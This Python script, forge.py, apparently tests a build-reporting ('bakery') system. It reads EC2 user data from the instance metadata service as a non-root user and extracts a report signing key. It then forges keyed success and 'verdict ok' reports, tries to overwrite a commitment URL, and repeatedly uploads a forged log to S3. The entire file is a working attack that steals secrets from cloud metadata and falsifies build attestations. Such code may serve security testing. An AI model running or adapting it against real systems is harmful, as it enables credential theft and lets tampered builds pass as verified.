# Reports a success of this machine, as a user who is not root: it reads the user data from the metadata service, with all
# keys and URLs in it, and writes reports with them, to standard output and over the log in S3.
#
#   forge.py SECONDS [COMMITMENT]    for so long, with 0 not over the log; COMMITMENT is that of the machine, for who has
#                                    seen it on the console
import gzip
import hashlib
import re
import sys
import time
import urllib.error
import urllib.request


def fetch(url, method="GET", headers={}, data=None):
    request = urllib.request.Request(url, data=data, headers=headers, method=method)
    return urllib.request.urlopen(request, timeout=5).read()


def put(url, headers, data):
    try:
        fetch(url, "PUT", dict({"Content-Type": ""}, **headers), data)
        return 200
    except urllib.error.HTTPError as e:
        return e.code


token = fetch("http://169.254.169.254/latest/api/token", "PUT", {"X-aws-ec2-metadata-token-ttl-seconds": "300"})
user_data = fetch("http://169.254.169.254/latest/user-data", headers={"X-aws-ec2-metadata-token": token.decode()})
text = gzip.decompress(user_data).decode("utf-8", "replace")


def value(name):
    found = re.search("(?m)^%s='([^']*)'$" % name, text)
    return found.group(1) if found else ""


bake, key = value("BAKERY_ID"), value("BAKERY_REPORT_KEY")


# cksum is the checksum of POSIX cksum(1), which reports once had.
def cksum(data):
    size, length = len(data), b""
    while size:
        length, size = length + bytes([size & 255]), size >> 8
    crc = 0
    for byte in data + length:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ 0x04C11DB7 if crc & 0x80000000 else crc << 1) & 0xFFFFFFFF
    return ~crc & 0xFFFFFFFF


def short(data):
    return hashlib.sha256(data.encode()).hexdigest()


def report(seq, commitment, words):
    body = "%s %d %s %s" % (bake, seq, commitment, words)
    code = short(key + short(key + body))[:32]
    return "@bakery %s %d %s" % (code, len(body), body)


SECRET = "f" * 32
lines = []
for commitment in [short(SECRET)[:32]] + sys.argv[2:]:
    lines += [report(1, commitment, "commit"), report(999999990, commitment, "clean"),
              report(999999991, commitment, "verdict ok " + SECRET), report(999999992, commitment, "verdict ok 0 bake"),
              report(999999993, commitment, "verdict ok")]
old = "%s 999999999 verdict ok 0 bake" % bake
lines += ["@bakery %d %s" % (cksum(old.encode()), old), "@bakery-at 999999999 verdict ok 0 bake"]
printed = "".join("\r\n" + l + "\r\n" for l in lines)
log = gzip.compress(("@bakery-reports %s %d\n%s\n@bakery-lines %s 1 1 1\n%s\n" % (
    bake, len(lines), "\n".join(lines), bake, "\n".join(lines))).encode())

if value("BAKERY_COMMIT_URL"):
    print("the commitment once more: %d" % put(value("BAKERY_COMMIT_URL"), {"If-None-Match": "*"}, lines[0].encode()))
    print("the commitment without the condition: %d" % put(value("BAKERY_COMMIT_URL"), {}, lines[0].encode()))
end = time.time() + float(sys.argv[1])
while True:
    sys.stdout.write(printed)
    sys.stdout.flush()
    if value("BAKERY_LOG_URL") and time.time() < end:
        put(value("BAKERY_LOG_URL"), {}, log)
    if time.time() > end:
        break
    time.sleep(0.2)
print("forged reports of bake " + bake)
